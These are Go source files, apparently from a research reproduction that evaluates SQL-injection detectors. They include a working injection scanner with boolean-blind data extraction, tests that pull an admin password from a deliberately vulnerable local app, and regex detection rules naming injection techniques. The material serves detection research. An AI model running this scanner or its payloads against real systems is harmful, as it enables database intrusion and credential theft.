		fmt.Fprintf(&b, `<text x="%.0f" y="%d" font-size="9" text-anchor="middle">%.3g</text>`, px(fx), mt+plotH+14, fx)
		fmt.Fprintf(&b, `<text x="%d" y="%.0f" font-size="9" text-anchor="end">%.3g</text>`, ml-4, py(fy)+3, fy)
		fmt.Fprintf(&b, `<line x1="%.0f" y1="%d" x2="%.0f" y2="%d" stroke="#ddd"/>`, px(fx), mt, px(fx), mt+plotH)
		fmt.Fprintf(&b, `<line x1="%d" y1="%.0f" x2="%d" y2="%.0f" stroke="#ddd"/>`, ml, py(fy), ml+plotW, py(fy))
	}
	// Series.
	for si, s := range series {
		color := plotPalette[si%len(plotPalette)]
		var pts []string
		for i := range s.X {
			x, y := s.X[i], s.Y[i]
			if x > xMax {
				continue
			}
			if y > yMax {
				y = yMax
			}
			pts = append(pts, fmt.Sprintf("%.1f,%.1f", px(x), py(y)))
		}
		if len(pts) > 0 {
			fmt.Fprintf(&b, `<polyline points="%s" fill="none" stroke="%s" stroke-width="1.5"/>`, strings.Join(pts, " "), color)
		}
		ly := mt + 14 + si*16
		fmt.Fprintf(&b, `<line x1="%d" y1="%d" x2="%d" y2="%d" stroke="%s" stroke-width="2"/>`, ml+plotW+8, ly, ml+plotW+28, ly, color)
		fmt.Fprintf(&b, `<text x="%d" y="%d" font-size="10">%s</text>`, ml+plotW+32, ly+3, xmlEscape(s.Name))
		b.WriteByte('\n')
	}
	b.WriteString("</svg>")
	return b.String()
}

// Bar is one bar of a bar chart.
type Bar struct {
	Label string
	Value float64
	// Overlay draws a second (darker) value inside the bar — Figure 4 uses
	// it for the cumulative-vs-individual TPR pairing.
	Overlay float64
}

// BarChartSVG renders a vertical bar chart — used for Figure 4's
// cumulative TPR. Values are fractions in [0, 1] rendered as percentages.
func BarChartSVG(title string, bars []Bar) string {
	const (
		w, h           = 520, 340
		ml, mr, mt, mb = 55, 20, 30, 55
		plotW, plotH   = w - ml - mr, h - mt - mb
	)
	if len(bars) == 0 {
		return `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>`
	}
	bw := float64(plotW) / float64(len(bars))
	py := func(v float64) float64 { return mt + (1-v)*float64(plotH) }

	var b strings.Builder
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d" font-family="sans-serif">`, w, h)
	b.WriteByte('\n')
	fmt.Fprintf(&b, `<text x="%d" y="18" font-size="14" text-anchor="middle">%s</text>`, ml+plotW/2, xmlEscape(title))
	fmt.Fprintf(&b, `<line x1="%d" y1="%d" x2="%d" y2="%d" stroke="black"/>`, ml, mt+plotH, ml+plotW, mt+plotH)
	fmt.Fprintf(&b, `<line x1="%d" y1="%d" x2="%d" y2="%d" stroke="black"/>`, ml, mt, ml, mt+plotH)
	for i := 0; i <= 4; i++ {
		v := float64(i) / 4
		fmt.Fprintf(&b, `<text x="%d" y="%.0f" font-size="9" text-anchor="end">%.0f%%</text>`, ml-4, py(v)+3, v*100)
		fmt.Fprintf(&b, `<line x1="%d" y1="%.0f" x2="%d" y2="%.0f" stroke="#ddd"/>`, ml, py(v), ml+plotW, py(v))
	}
	for i, bar := range bars {
		x := float64(ml) + float64(i)*bw + bw*0.15
		width := bw * 0.7
		fmt.Fprintf(&b, `<rect x="%.1f" y="%.1f" width="%.1f" height="%.1f" fill="#9ecae1"/>`,
			x, py(bar.Value), width, float64(mt+plotH)-py(bar.Value))
		if bar.Overlay > 0 {
			fmt.Fprintf(&b, `<rect x="%.1f" y="%.1f" width="%.1f" height="%.1f" fill="#3182bd"/>`,
				x, py(bar.Overlay), width, float64(mt+plotH)-py(bar.Overlay))
		}
		fmt.Fprintf(&b, `<text x="%.1f" y="%d" font-size="9" text-anchor="middle">%s</text>`,
			x+width/2, mt+plotH+14, xmlEscape(bar.Label))
		b.WriteByte('\n')
	}
	b.WriteString("</svg>")
	return b.String()
}

func xmlEscape(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	return r.Replace(s)
}
