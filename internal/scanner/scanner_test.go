package scanner

import (
	"net/http/httptest"
	"strings"
	"testing"

	"psigene/internal/webapp"
)

func scanApp(t *testing.T, nVulns int) (*webapp.App, *Result) {
	t.Helper()
	app := webapp.New(nVulns)
	srv := httptest.NewServer(app)
	t.Cleanup(srv.Close)

	var pages []Page
	for _, v := range app.Vulnerabilities() {
		pages = append(pages, Page{Path: v.Path, Param: v.Param, Benign: v.BenignValue})
	}
	s := New(srv.URL, Options{Client: srv.Client(), Tool: "sqlmap"})
	res, err := s.Scan(pages)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	return app, res
}

func TestScannerFindsInjections(t *testing.T) {
	_, res := scanApp(t, 12)
	if res.PagesScanned != 12 {
		t.Fatalf("scanned %d pages", res.PagesScanned)
	}
	if len(res.Findings) == 0 {
		t.Fatal("no findings on a deliberately vulnerable app")
	}
	byTech := map[Technique]int{}
	pagesHit := map[string]bool{}
	for _, f := range res.Findings {
		byTech[f.Technique]++
		pagesHit[f.Page.Path] = true
	}
	// Every technique must confirm somewhere across the 6 template kinds.
	for _, tech := range []Technique{TechniqueError, TechniqueBoolean, TechniqueUnion, TechniqueTime} {
		if byTech[tech] == 0 {
			t.Errorf("technique %v confirmed nowhere (findings: %+v)", tech, byTech)
		}
	}
	// Most pages are injectable (all templates are vulnerable; the COUNT
	// and UPDATE templates hide some channels).
	if len(pagesHit) < res.PagesScanned/2 {
		t.Fatalf("only %d/%d pages flagged", len(pagesHit), res.PagesScanned)
	}
}

func TestScannerExtractsData(t *testing.T) {
	_, res := scanApp(t, 6)
	var extracted []string
	for _, f := range res.Findings {
		if f.Extracted != "" {
			extracted = append(extracted, f.Extracted)
		}
	}
	if len(extracted) == 0 {
		t.Fatal("no data exfiltrated")
	}
	found := false
	for _, e := range extracted {
		if strings.Contains(e, "5.5.29") {
			found = true
		}
	}
	if !found {
		t.Fatalf("version string not extracted: %v", extracted)
	}
}

func TestScannerRequestLogIsTestSet(t *testing.T) {
	_, res := scanApp(t, 8)
	if len(res.Requests) < 8*10 {
		t.Fatalf("only %d requests logged — expected a dense probe sequence", len(res.Requests))
	}
	for _, r := range res.Requests {
		if !r.Malicious || r.Tool != "sqlmap" {
			t.Fatalf("request not labeled: %+v", r)
		}
		if r.RawQuery == "" {
			t.Fatalf("request without payload: %+v", r)
		}
	}
}

func TestScannerUnionColumnCount(t *testing.T) {
	_, res := scanApp(t, 6)
	for _, f := range res.Findings {
		if f.Technique == TechniqueUnion {
			if f.Columns < 1 || f.Columns > 8 {
				t.Fatalf("implausible column count %d", f.Columns)
			}
			return
		}
	}
	t.Fatal("no union finding")
}

func TestTechniqueString(t *testing.T) {
	for _, tech := range []Technique{TechniqueError, TechniqueBoolean, TechniqueUnion, TechniqueTime} {
		if strings.HasPrefix(tech.String(), "Technique(") {
			t.Fatalf("technique %d unnamed", tech)
		}
	}
	if !strings.HasPrefix(Technique(99).String(), "Technique(") {
		t.Fatal("unknown technique must fall back")
	}
}

func TestScanUnreachableServer(t *testing.T) {
	s := New("http://127.0.0.1:1", Options{})
	if _, err := s.Scan([]Page{{Path: "/x", Param: "id", Benign: "1"}}); err == nil {
		t.Fatal("unreachable server: want error")
	}
}

func TestExtractBooleanExfiltratesSecrets(t *testing.T) {
	app := webapp.New(6)
	srv := httptest.NewServer(app)
	defer srv.Close()

	v := app.Vulnerabilities()[0] // numeric users lookup
	s := New(srv.URL, Options{Client: srv.Client(), Tool: "sqlmap"})
	page := Page{Path: v.Path, Param: v.Param, Benign: v.BenignValue}

	got, err := s.ExtractBoolean(page, "select password from users where username='admin'", false, 16)
	if err != nil {
		t.Fatalf("ExtractBoolean: %v", err)
	}
	if got != "root!pw" {
		t.Fatalf("extracted %q, want the admin password", got)
	}

	// Version string through the quoted context of page 2.
	v2 := app.Vulnerabilities()[1]
	page2 := Page{Path: v2.Path, Param: v2.Param, Benign: v2.BenignValue}
	ver, err := s.ExtractBoolean(page2, "version()", true, 16)
	if err != nil {
		t.Fatalf("quoted ExtractBoolean: %v", err)
	}
	if !strings.HasPrefix(ver, "5.5.29") {
		t.Fatalf("extracted version %q", ver)
	}
	// The probes themselves land in the attack request log.
	if len(s.log) < 50 {
		t.Fatalf("only %d probes logged", len(s.log))
	}
}

func TestExtractBooleanDeadChannel(t *testing.T) {
	app := webapp.New(6)
	srv := httptest.NewServer(app)
	defer srv.Close()
	// A nonexistent page returns 404 for every probe: no boolean channel.
	s := New(srv.URL, Options{Client: srv.Client()})
	_, err := s.ExtractBoolean(Page{Path: "/missing", Param: "id", Benign: "1"}, "version()", false, 4)
	if err == nil {
		t.Fatal("dead channel must error")
	}
}
