// Package scanner is a working SQL-injection scanner in the style of the
// tools the paper runs against its vulnerable application (SQLmap, Arachni,
// Vega): it probes each page parameter over HTTP with error-, boolean-,
// union- and time-based techniques, confirms vulnerabilities from the
// responses, and logs every request it sent. That request log is the
// behaviourally generated counterpart of the paper's test datasets
// ("SQLmap ... triggering the scanning tool to generate over 7200 attack
// samples") — produced by actually scanning, not sampled from templates.
package scanner

import (
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"

	"psigene/internal/httpx"
)

// Technique is a confirmed injection technique.
type Technique int

// Detection techniques, in probe order.
const (
	TechniqueError Technique = iota + 1
	TechniqueBoolean
	TechniqueUnion
	TechniqueTime
)

// String names the technique.
func (t Technique) String() string {
	switch t {
	case TechniqueError:
		return "error-based"
	case TechniqueBoolean:
		return "boolean-blind"
	case TechniqueUnion:
		return "union-based"
	case TechniqueTime:
		return "time-based"
	default:
		return fmt.Sprintf("Technique(%d)", int(t))
	}
}

// Page is one scan target: a path and the parameter to inject into.
type Page struct {
	Path  string
	Param string
	// Benign is the parameter value that renders the page normally.
	Benign string
}

// Finding is one confirmed vulnerability.
type Finding struct {
	Page      Page
	Technique Technique
	// Evidence is a short human-readable description of the signal.
	Evidence string
	// Columns is the UNION column count, when TechniqueUnion.
	Columns int
	// Extracted holds data exfiltrated as proof (version string etc.).
	Extracted string
}

// Result is the outcome of a scan.
type Result struct {
	Findings []Finding
	// Requests is every HTTP request the scanner sent, labeled malicious —
	// the generated attack test set.
	Requests []httpx.Request
	// PagesScanned counts targets probed.
	PagesScanned int
}

// Options configures a scan.
type Options struct {
	// Client is the HTTP client; nil means http.DefaultClient.
	Client *http.Client
	// MaxUnionColumns bounds ORDER BY column probing. 0 means 8.
	MaxUnionColumns int
	// Tool tags logged requests. "" means "scanner".
	Tool string
}

func (o Options) withDefaults() Options {
	if o.Client == nil {
		o.Client = http.DefaultClient
	}
	if o.MaxUnionColumns <= 0 {
		o.MaxUnionColumns = 8
	}
	if o.Tool == "" {
		o.Tool = "scanner"
	}
	return o
}

// Scanner probes pages for SQL injection.
type Scanner struct {
	opts     Options
	baseURL  string
	log      []httpx.Request
	trueBody string // boolean-channel calibration (see ExtractBoolean)
}

// New returns a scanner for the application at baseURL.
func New(baseURL string, opts Options) *Scanner {
	return &Scanner{opts: opts.withDefaults(), baseURL: strings.TrimRight(baseURL, "/")}
}

// response is one observed HTTP exchange.
type response struct {
	status int
	body   string
	delay  float64 // simulated seconds from the X-Query-Seconds header
}

// probe sends one injected value and records the request.
func (s *Scanner) probe(p Page, value string) (response, error) {
	query := p.Param + "=" + urlEncodeValue(value)
	s.log = append(s.log, httpx.Request{
		Method:    "GET",
		Host:      hostOf(s.baseURL),
		Path:      p.Path,
		RawQuery:  query,
		Malicious: true,
		Tool:      s.opts.Tool,
	})
	resp, err := s.opts.Client.Get(s.baseURL + p.Path + "?" + query)
	if err != nil {
		return response{}, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return response{}, err
	}
	out := response{status: resp.StatusCode, body: string(body)}
	if d := resp.Header.Get("X-Query-Seconds"); d != "" {
		out.delay, _ = strconv.ParseFloat(d, 64)
	}
	return out, nil
}

// Scan probes every page with every technique.
func (s *Scanner) Scan(pages []Page) (*Result, error) {
	res := &Result{}
	for _, p := range pages {
		res.PagesScanned++
		findings, err := s.scanPage(p)
		if err != nil {
			return nil, fmt.Errorf("scan %s: %w", p.Path, err)
		}
		res.Findings = append(res.Findings, findings...)
	}
	res.Requests = append([]httpx.Request(nil), s.log...)
	return res, nil
}

func (s *Scanner) scanPage(p Page) ([]Finding, error) {
	var out []Finding

	// Technique 1: error-based. A lone quote breaking the statement while
	// the doubled quote does not is the classic injectability signal.
	quoteResp, err := s.probe(p, p.Benign+"'")
	if err != nil {
		return nil, err
	}
	cleanResp, err := s.probe(p, p.Benign+"''")
	if err != nil {
		return nil, err
	}
	sqlError := strings.Contains(quoteResp.body, "SQL syntax") || strings.Contains(quoteResp.body, "XPATH syntax")
	if quoteResp.status == http.StatusInternalServerError && sqlError && cleanResp.status != quoteResp.status {
		out = append(out, Finding{Page: p, Technique: TechniqueError, Evidence: "single quote raises a SQL error, doubled quote does not"})
	}
	// Error-based extraction attempt (works in both quoted and numeric
	// contexts once wrapped appropriately).
	for _, inj := range []string{
		p.Benign + " and extractvalue(1, concat(0x7e, version()))",
		p.Benign + "' and extractvalue(1, concat(0x7e, version()))-- ",
	} {
		r, err := s.probe(p, inj)
		if err != nil {
			return nil, err
		}
		if idx := strings.Index(r.body, "XPATH syntax error: '~"); idx >= 0 {
			leak := r.body[idx+len("XPATH syntax error: '~"):]
			if end := strings.IndexByte(leak, '\''); end > 0 {
				leak = leak[:end]
			}
			out = append(out, Finding{Page: p, Technique: TechniqueError, Evidence: "extractvalue error leaks data", Extracted: leak})
			break
		}
	}

	// Technique 2: boolean-blind, numeric and quoted contexts.
	pairs := [][2]string{
		{p.Benign + " and 7491=7491", p.Benign + " and 7491=7492"},
		{p.Benign + "' and '7491'='7491", p.Benign + "' and '7491'='7492"},
	}
	for _, pair := range pairs {
		trueResp, err := s.probe(p, pair[0])
		if err != nil {
			return nil, err
		}
		falseResp, err := s.probe(p, pair[1])
		if err != nil {
			return nil, err
		}
		if trueResp.status == http.StatusOK && trueResp.body != falseResp.body {
			out = append(out, Finding{Page: p, Technique: TechniqueBoolean, Evidence: "TRUE and FALSE probes render differently"})
			break
		}
	}

	// Technique 3: union-based. Find the column count with ORDER BY, then
	// inject a UNION row carrying a marker.
	baseline, err := s.probe(p, p.Benign)
	if err != nil {
		return nil, err
	}
	cols := 0
	for k := 1; k <= s.opts.MaxUnionColumns; k++ {
		r, err := s.probe(p, fmt.Sprintf("%s order by %d-- ", p.Benign, k))
		if err != nil {
			return nil, err
		}
		if r.status != baseline.status {
			cols = k - 1
			break
		}
	}
	if cols > 0 {
		marker := "qx7b1zq"
		for _, prefix := range []string{"-1", p.Benign + "'"} {
			parts := make([]string, cols)
			for i := range parts {
				parts[i] = "null"
			}
			parts[0] = "concat(0x" + hexOf(marker) + ", 0x3a, version())"
			inj := fmt.Sprintf("%s union select %s-- ", prefix, strings.Join(parts, ","))
			r, err := s.probe(p, inj)
			if err != nil {
				return nil, err
			}
			if idx := strings.Index(r.body, marker+":"); idx >= 0 {
				leak := r.body[idx+len(marker)+1:]
				if end := strings.IndexByte(leak, '<'); end > 0 {
					leak = leak[:end]
				}
				out = append(out, Finding{Page: p, Technique: TechniqueUnion, Evidence: "UNION row rendered in page", Columns: cols, Extracted: leak})
				break
			}
		}
	}

	// Technique 4: time-based.
	for _, inj := range []string{
		p.Benign + " and sleep(5)",
		p.Benign + "' and sleep(5)-- ",
	} {
		r, err := s.probe(p, inj)
		if err != nil {
			return nil, err
		}
		if r.delay >= 4 {
			out = append(out, Finding{Page: p, Technique: TechniqueTime, Evidence: fmt.Sprintf("query delayed %.1fs", r.delay)})
			break
		}
	}
	return out, nil
}

func hostOf(baseURL string) string {
	h := strings.TrimPrefix(strings.TrimPrefix(baseURL, "http://"), "https://")
	if i := strings.IndexByte(h, '/'); i >= 0 {
		h = h[:i]
	}
	return h
}

func hexOf(s string) string {
	const digits = "0123456789abcdef"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte(digits[s[i]>>4])
		b.WriteByte(digits[s[i]&0xf])
	}
	return b.String()
}

// urlEncodeValue form-encodes an injected parameter value.
func urlEncodeValue(s string) string {
	const hexDigits = "0123456789ABCDEF"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == ' ':
			b.WriteByte('+')
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9',
			c == '-' || c == '_' || c == '.' || c == '~' || c == '(' || c == ')' || c == ',':
			b.WriteByte(c)
		default:
			b.WriteByte('%')
			b.WriteByte(hexDigits[c>>4])
			b.WriteByte(hexDigits[c&0xf])
		}
	}
	return b.String()
}
