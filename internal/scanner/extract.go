package scanner

import (
	"fmt"
	"net/http"
)

// ExtractBoolean exfiltrates the value of a scalar SQL expression through
// the boolean-blind channel of a vulnerable page: for each character
// position it binary-searches the byte value with
// "AND ascii(substr((expr),i,1)) > k" probes, telling TRUE from FALSE by
// the response body — exactly how SQLmap dumps data when only the boolean
// channel is available. quoted selects the quoted-context payload wrapper.
// maxLen caps the extraction (0 means 32).
//
// Every probe is recorded in the scanner's request log like any other.
func (s *Scanner) ExtractBoolean(p Page, expr string, quoted bool, maxLen int) (string, error) {
	if maxLen <= 0 {
		maxLen = 32
	}
	probe := func(cond string) (bool, error) {
		var inj string
		if quoted {
			inj = fmt.Sprintf("%s' and %s-- ", p.Benign, cond)
		} else {
			inj = fmt.Sprintf("%s and %s", p.Benign, cond)
		}
		r, err := s.probe(p, inj)
		if err != nil {
			return false, err
		}
		if r.status != http.StatusOK {
			return false, fmt.Errorf("probe failed with status %d", r.status)
		}
		return r.body == s.trueBody, nil
	}

	// Calibrate the TRUE response once.
	var calib string
	if quoted {
		calib = p.Benign + "' and 1=1-- "
	} else {
		calib = p.Benign + " and 1=1"
	}
	r, err := s.probe(p, calib)
	if err != nil {
		return "", err
	}
	if r.status != http.StatusOK {
		return "", fmt.Errorf("calibration failed with status %d", r.status)
	}
	s.trueBody = r.body

	// Check the FALSE side actually differs; otherwise the channel is dead.
	var falseCalib string
	if quoted {
		falseCalib = p.Benign + "' and 1=2-- "
	} else {
		falseCalib = p.Benign + " and 1=2"
	}
	fr, err := s.probe(p, falseCalib)
	if err != nil {
		return "", err
	}
	if fr.body == s.trueBody {
		return "", fmt.Errorf("no boolean difference on %s", p.Path)
	}

	var out []byte
	for i := 1; i <= maxLen; i++ {
		// First check the character exists at all.
		exists, err := probe(fmt.Sprintf("length((%s)) >= %d", expr, i))
		if err != nil {
			return "", err
		}
		if !exists {
			break
		}
		lo, hi := 0, 255
		for lo < hi {
			mid := (lo + hi) / 2
			greater, err := probe(fmt.Sprintf("ascii(substr((%s),%d,1)) > %d", expr, i, mid))
			if err != nil {
				return "", err
			}
			if greater {
				lo = mid + 1
			} else {
				hi = mid
			}
		}
		if lo == 0 {
			break
		}
		out = append(out, byte(lo))
	}
	return string(out), nil
}
