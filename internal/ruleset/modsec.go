package ruleset

// ModSecCRS returns the OWASP ModSecurity Core Rule Set 2.2.4 SQLi rules:
// 34 rules, all enabled, all regex, evaluated with anomaly scoring — each
// matching rule contributes its score and the engine alerts when the sum
// reaches the threshold. The expressions are long multi-group alternations
// (the paper measures an average length of 390 characters), manually tuned
// by expert administrators, which is why this set posts the highest
// detection rate with a slightly higher false-positive rate than pSigene.
func ModSecCRS() Ruleset {
	r := func(id, desc, pat string, score int) Rule {
		return Rule{ID: id, Description: desc, Kind: MatchRegex, Target: TargetPayload, Pattern: pat, Enabled: true, Score: score}
	}
	rules := []Rule{
		r("modsec:950001", "SQL injection: classic quoted tautology and boolean short-circuits",
			`(?:'|")\s*(?:or|and|\|\||&&)\s*(?:'|")?[\w\s]*(?:'|")?\s*(?:=|<|>|like|regexp|rlike|<=>)|(?:or|and)\s+\d+\s*(?:=|<|>|<=|>=|<>|!=)\s*\d+|(?:or|and)\s+(?:'[^']*'|"[^"]*")\s*(?:=|like)\s*(?:'[^']*'|"[^"]*")|(?:or|and)\s+(?:true|false)\b|\b(?:or|and)\s+not\s+`, 5),
		r("modsec:950002", "SQL injection: union-based statement injection",
			`(?:\b|['"\)\(]|-\d|%27)union(?:\s|\+|/\*.*?\*/)+(?:all(?:\s|\+|/\*.*?\*/)+)?select\b|union(?:\s|\+)*\(|\bselect\s+(?:null\s*,|\d+\s*,|@@|user\s*\(|database\s*\(|version\s*\()`, 5),
		r("modsec:950003", "SQL injection: comment-based truncation and statement termination",
			`(?:'|"|\d)\s*(?:--(?:\s|-|$)|#|%23)|;\s*(?:--|#)|/\*![0-9]*|/\*.*?\*/\s*(?:or|and|union|select)|\*/\s*$`, 3),
		r("modsec:950004", "SQL injection: stacked or piggybacked statements",
			`;\s*(?:select|insert(?:\s|\+)+into|update\s+\w+\s+set|delete(?:\s|\+)+from|drop\s+(?:table|database)|create\s+(?:table|user)|alter\s+table|truncate|shutdown|exec|declare)\b`, 5),
		r("modsec:950005", "SQL injection: timing and heavy-query inference primitives",
			`\bsleep\s*\(\s*\d+|\bbenchmark\s*\(\s*\d+\s*,|waitfor\s+delay\s+'|\bpg_sleep\s*\(|\bif\s*\([^)]*,\s*sleep\s*\(|dbms_lock\.sleep`, 5),
		r("modsec:950006", "SQL injection: error-based extraction functions",
			`\bextractvalue\s*\(|\bupdatexml\s*\(|floor\s*\(\s*rand\s*\(|\bexp\s*\(\s*~|\bname_const\s*\(|convert\s*\(\s*int\s*,|cast\s*\([^)]*\bas\s+(?:char|decimal|int)`, 5),
		r("modsec:950007", "SQL injection: schema and metadata reconnaissance",
			`information_schema\s*\.\s*(?:tables|columns|schemata)|\bmysql\s*\.\s*(?:user|db)\b|\btable_name\b|\bcolumn_name\b|\btable_schema\b|sysobjects|syscolumns|all_tables|pg_catalog`, 4),
		r("modsec:950008", "SQL injection: environment variable and system function probing",
			`@@(?:version|datadir|hostname|basedir|tmpdir|servername|language)|\b(?:current_user|session_user|system_user|user|database|schema|version)\s*\(\s*\)`, 4),
		r("modsec:950009", "SQL injection: file read/write primitives",
			`\bload_file\s*\(|into\s+(?:out|dump)file\b|load\s+data\s+infile|\bxp_cmdshell\b|\bsp_(?:password|executesql)\b|utl_(?:http|inaddr|file)`, 5),
		r("modsec:950010", "SQL injection: string assembly and obfuscation functions",
			`\bconcat(?:_ws)?\s*\(|\bgroup_concat\s*\(|\bchar\s*\(\s*\d+|0x[0-9a-fA-F]{4,}|\bunhex\s*\(|\bhex\s*\(|\bconv\s*\(|\bcompress\s*\(`, 3),
		r("modsec:950011", "SQL injection: character-level inference functions",
			`\bascii\s*\(|\bord\s*\(|\bsubstr(?:ing)?\s*\(|\bmid\s*\(|\blength\s*\(\s*\(|\blpad\s*\(|\bstrcmp\s*\(|\blocate\s*\(|\bposition\s*\(`, 3),
		r("modsec:950012", "SQL injection: subquery injection in comparison position",
			`(?:=|<|>|\bin\b|\bexists\b|\bany\b|\ball\b)\s*\(\s*select\b|\(\s*select\s+[^)]{1,100}\)\s*(?:=|<|>|like)`, 4),
		r("modsec:950013", "SQL injection: conditional CASE/IF control flow",
			`\bcase\s+when\b[^)]{0,60}\bthen\b|\bif\s*\(\s*\d|\biif\s*\(|\bifnull\s*\(|\bnullif\s*\(|\bcoalesce\s*\(`, 2),
		r("modsec:950014", "SQL injection: ORDER BY / GROUP BY column probing",
			`\border\s+by\s+\d+\s*(?:--|#|desc|asc|,|$)|\bgroup\s+by\s+[\w,\s]+having\b|\bprocedure\s+analyse\s*\(`, 3),
		r("modsec:950015", "SQL injection: quoted string breaking with operators",
			`'\s*(?:\+|\|\||&)\s*'|'\s*(?:,|\))\s*\(?'?|(?:'|")\s*(?:=|<|>|like|in)\s*\(?\s*(?:'|"|\d|select)`, 2),
		r("modsec:950016", "SQL injection: numeric context break-out with trailing logic",
			`^\s*-?\d+\s*(?:'|")|^\s*-?\d+\s+(?:or|and|union|group|order|having|limit|procedure|into)\b|\d\s*(?:=|<|>)\s*\(`, 2),
		r("modsec:950017", "SQL injection: hex/char encoded keyword smuggling",
			`(?:%2527|%27|%22|%5c')\s*(?:or|and|union|select|--|#)|(?:\\x27|\\x22|\\u0027)|(?:char|chr)\s*\(\s*\d+\s*(?:,\s*\d+\s*)*\)`, 3),
		r("modsec:950018", "SQL injection: double-encoded or nested encodings",
			`%25(?:27|22|2d|23|3b)|%(?:u00|c0%a|e0%80)`, 3),
		r("modsec:950019", "SQL injection: inline comment keyword splitting",
			`(?:u/\*.*?\*/n|s/\*.*?\*/e|un/\*.*?\*/ion|sel/\*.*?\*/ect|/\*.*?\*/(?:union|select|or|and)|(?:union|select|or|and)/\*.*?\*/)`, 4),
		r("modsec:950020", "SQL injection: authentication bypass strings",
			`\badmin\s*'\s*(?:--|#|/\*)|'\s*or\s+''\s*=\s*'|"\s*or\s+""\s*=\s*"|\bor\s+'[\w]+'\s*=\s*'[\w]+'|'\s*or\s+1\s*=\s*1|\)\s*or\s*\('`, 5),
		r("modsec:950021", "SQL injection: blind boolean probe pairs",
			`\b(?:and|or)\s+\d{2,}\s*=\s*\d{2,}|\b(?:and|or)\s+\d+\s*(?:<|>)\s*\d+|'\s*and\s+'[\w]+'\s*=\s*'[\w]+`, 4),
		r("modsec:950022", "SQL injection: version/fingerprint substring probes",
			`substring?\s*\(\s*@@version|\bversion\s*\(\s*\)\s*(?:like|regexp|=)|@@version\s*(?:like|regexp|=)|mid\s*\(\s*version\s*\(`, 4),
		r("modsec:950023", "SQL injection: select field list from table pattern",
			`\bselect\b[\s\w,\*\(\)@'"]{1,60}\bfrom\b[\s\w\.'"]{1,100}\bwhere\b|\bselect\s+(?:\*|[\w,\s]+)\s+from\s+\w+`, 3),
		r("modsec:950024", "SQL injection: insert/replace values vector",
			`\binsert(?:\s|\+)+into\b[^;]{0,100}\bvalues\s*\(|\breplace\s+into\b|\bon\s+duplicate\s+key\b`, 4),
		r("modsec:950025", "SQL injection: LIKE wildcard and range probing",
			`\blike\s+'%|\blike\s+0x|\bbetween\s+\d+\s+and\s+\d+|\bregexp\s+'|\brlike\s+'|\bsounds\s+like\b|<=>`, 2),
		r("modsec:950026", "SQL injection: semicolon statement delimiter in parameter",
			`[\w'"\)]\s*;\s*[\w@]|;\s*$`, 1),
		r("modsec:950027", "SQL injection: single quote density anomaly",
			`'[^']*'[^']*'|%27[^%]*%27`, 1),
		r("modsec:950028", "SQL injection: parenthesis/quote structural anomaly",
			`\)\s*(?:or|and|union|--|#)|'\s*\)|\(\s*'|\(\s*\d+\s*(?:=|<|>)\s*\d+\s*\)`, 2),
		r("modsec:950029", "SQL injection: MySQL-specific operators and literals",
			`\bdiv\s+\d|\bxor\b|\brlike\b|\bregexp\b|\bbinary\s+'|b'[01]+'|x'[0-9a-f]+'|\b(?:true|false)\b\s*(?:=|,|\))`, 1),
		r("modsec:950030", "SQL injection: null-byte and control-character smuggling",
			`%00|\\0|\x00|%0[ad]|\\r|\\n`, 2),
		r("modsec:950031", "SQL injection: variable assignment and user variables",
			`@\w+\s*(?::=|=)|\bset\s+@|\bdeclare\s+@|select\s+@@?`, 2),
		r("modsec:950032", "SQL injection: limit/offset manipulation after logic",
			`\blimit\s+\d+\s*,\s*\d+\s*(?:--|#|$)|\blimit\s+\d+\s+offset\s+\d+|\boffset\s+\d+\s+rows\b`, 1),
		r("modsec:950033", "SQL injection: from dual and no-table selects",
			`\bfrom\s+dual\b|\bselect\s+\d+\s*(?:,\s*\d+)*\s*(?:--|#|$)|select\s+(?:null\s*,\s*)+null`, 3),
		r("modsec:950034", "SQL injection: generalized keyword pair proximity",
			`\b(?:select|union|insert|update|delete|drop|create|alter)\b.{0,40}\b(?:from|into|table|where|set|select|database)\b`, 2),
	}
	return Ruleset{
		Name:             "ModSecurity",
		Version:          "2.2.4",
		Mode:             ModeAnomalyScoring,
		AnomalyThreshold: 5,
		Rules:            rules,
	}
}
