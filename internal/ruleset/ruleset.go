// Package ruleset holds the built-in SQLi rule sets the paper compares
// against (Table IV): Bro 2.0's six signatures, the merged Snort 2920 +
// Emerging Threats 7098 set, and the ModSecurity CRS 2.2.4 set. The live
// rulesets are gated resources; these are hand-authored reproductions in
// each system's characteristic style (rule counts, enabled fractions, regex
// usage, and rule-length distributions per Table IV), sufficient to
// reproduce the engines' comparative behaviour.
package ruleset

import (
	"fmt"
	"regexp"
)

// MatchKind distinguishes regex rules from plain content (substring) rules;
// Table IV reports the regex fraction per set.
type MatchKind int

// Rule match kinds.
const (
	MatchRegex MatchKind = iota + 1
	MatchContent
)

// Target selects what part of the request a rule inspects.
type Target int

// Rule targets.
const (
	// TargetPayload matches the extracted query payload (normalized
	// lowercase for content rules; regexes are case-insensitive).
	TargetPayload Target = iota + 1
	// TargetURI matches path plus query, as Snort/ET uricontent rules do.
	TargetURI
)

// Rule is one detection rule.
type Rule struct {
	// ID is the rule identifier in its home ruleset (e.g. Snort SID).
	ID string
	// Description is the rule message.
	Description string
	// Kind says whether Pattern is a regex or a plain substring.
	Kind MatchKind
	// Target selects the inspected request part.
	Target Target
	// Pattern is the regex source or lowercase substring.
	Pattern string
	// Enabled mirrors the distribution default; disabled rules are counted
	// in Table IV but skipped by engines unless explicitly included.
	Enabled bool
	// Score is the anomaly contribution for scoring engines (ModSec);
	// deterministic engines ignore it.
	Score int
}

// Mode is the engine semantics a ruleset is written for.
type Mode int

// Ruleset modes.
const (
	// ModeDeterministic alerts on any single matching rule (Snort, Bro).
	ModeDeterministic Mode = iota + 1
	// ModeAnomalyScoring sums matching rule scores against a threshold
	// (ModSecurity).
	ModeAnomalyScoring
)

// Ruleset is a named collection of rules plus its engine semantics.
type Ruleset struct {
	// Name and Version identify the distribution (Table IV rows).
	Name, Version string
